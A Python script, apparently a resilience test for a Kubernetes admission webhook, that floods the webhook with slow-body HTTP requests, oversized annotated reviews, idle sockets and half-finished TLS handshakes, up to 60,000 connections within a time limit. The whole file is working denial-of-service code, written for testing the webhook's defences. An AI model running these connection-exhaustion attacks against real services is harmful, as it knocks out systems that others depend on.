"""An attack on the webhook from the network namespace of a pod: attack.py KIND HOST PORT SECONDS

Prints "begun" once it is at full strength, ends after SECONDS, and then prints how many connections it has opened. All
loops are bounded in count and time."""

import errno
import json
import resource
import selectors
import socket
import ssl
import sys
import threading
import time

CONNECTIONS_MAX = 60_000
# Connections that replace closed ones: the webhook may close them faster, and the attack has to last for SECONDS.
REPLACED_PER_SECOND = 1_500
BODY_HOLDERS, SILENT, HANDSHAKES, REVIEWERS = 16, 5_000, 1_500, 8
# The webhook's limit of a review, and the annotation that is large in it.
BODY, ANNOTATION = 3 << 20, 2 << 20


class Attack:
    def __init__(self, address, seconds):
        self.address, self.end, self.opened = address, time.monotonic() + seconds, 0
        self.lock = threading.Lock()
        self.tls = ssl.create_default_context()
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE

    def goes_on(self):
        return time.monotonic() < self.end and self.opened < CONNECTIONS_MAX

    def connect(self):
        with self.lock:
            self.opened += 1
        return socket.create_connection(self.address, timeout=5)

    def bodies(self):
        """Each connection announces the largest body and sends ten bytes of it."""
        self.in_threads(BODY_HOLDERS, self.hold_body)

    def hold_body(self, begun):
        while self.goes_on():
            try:
                with self.tls.wrap_socket(self.connect()) as connection:
                    connection.sendall(head(BODY) + b"0123456789")
                    begun()
                    connection.settimeout(max(0.1, self.end - time.monotonic()))
                    connection.recv(1)
            except OSError:
                time.sleep(0.05)

    def reviews(self):
        """Reviews with an annotation of two megabytes, one after the other."""
        body = review()
        self.in_threads(REVIEWERS, lambda begun: self.send_reviews(head(len(body)) + body, begun))

    def send_reviews(self, request, begun):
        while self.goes_on():
            try:
                with self.tls.wrap_socket(self.connect()) as connection:
                    connection.settimeout(10)
                    connection.sendall(request)
                    begun()
                    connection.recv(1 << 16)
            except OSError:
                time.sleep(0.05)

    def silent(self):
        """Connections without a byte."""
        self.keep_open(SILENT, [b""])

    def handshakes(self):
        """Connections that stop after a whole ClientHello, after half of one, or after its first byte."""
        hello = client_hello()
        self.keep_open(HANDSHAKES, [hello, hello[:len(hello) // 2], hello[:1]])

    def in_threads(self, count, run):
        barrier = threading.Barrier(count + 1)

        def body():
            is_first = True

            def begun():
                nonlocal is_first
                if is_first:
                    is_first = False
                    barrier.wait()
            run(begun)
            if is_first:
                barrier.abort()
        for _ in range(count):
            threading.Thread(target=body, daemon=True).start()
        try:
            # A webhook that lets the attackers wait is under attack as well.
            barrier.wait(timeout=10)
        except threading.BrokenBarrierError:
            pass
        print("begun", flush=True)
        time.sleep(max(0, self.end - time.monotonic()))

    def keep_open(self, count, beginnings):
        """Keeps connections open, each with one of the beginnings, and replaces those that the webhook closes."""
        selector, is_begun, began = selectors.DefaultSelector(), False, time.monotonic()
        while self.goes_on():
            allowed = count + REPLACED_PER_SECOND * (time.monotonic() - began)
            for _ in range(min(200, count - len(selector.get_map()), int(allowed) - self.opened)):
                self.open(selector, beginnings[self.opened % len(beginnings)])
            if not is_begun and self.opened >= count:
                is_begun = True
                print("begun", flush=True)
            for key, events in selector.select(timeout=0.01):
                if not self.is_open(selector, key, events):
                    selector.unregister(key.fileobj)
                    key.fileobj.close()

    def open(self, selector, beginning):
        """Begins a connection. With a full backlog it would be established only later."""
        self.opened += 1
        connection = socket.socket()
        connection.setblocking(False)
        if connection.connect_ex(self.address) not in (0, errno.EINPROGRESS):
            connection.close()
            return
        selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, beginning)

    def is_open(self, selector, key, events):
        try:
            if events & selectors.EVENT_WRITE:
                if key.data:
                    key.fileobj.send(key.data)
                selector.modify(key.fileobj, selectors.EVENT_READ)
            if events & selectors.EVENT_READ:
                return bool(key.fileobj.recv(1 << 14))
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def head(length):
    return f"POST /inject HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n".encode()


def review():
    """A review of a pod with large annotations."""
    annotations = {"probelet.dev/exclude-ports": "1," * (ANNOTATION // 2)}
    probe = {"httpGet": {"path": "/", "port": 80}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a", "annotations": annotations},
           "spec": {"containers": [{"name": "a", "image": "a", "livenessProbe": probe}]}}
    request = {"uid": "1", "kind": {"group": "", "version": "v1", "kind": "Pod"}, "operation": "CREATE", "namespace": "a", "object": pod}
    return json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}).encode()


def client_hello():
    outgoing = ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="webhook.example").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def main():
    kind, host, port, seconds = sys.argv[1:]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack = Attack((host, int(port)), float(seconds))
    {"bodies": attack.bodies, "silent": attack.silent, "handshakes": attack.handshakes, "reviews": attack.reviews}[kind]()
    print(f"{attack.opened} connections", flush=True)


if __name__ == "__main__":
    main()
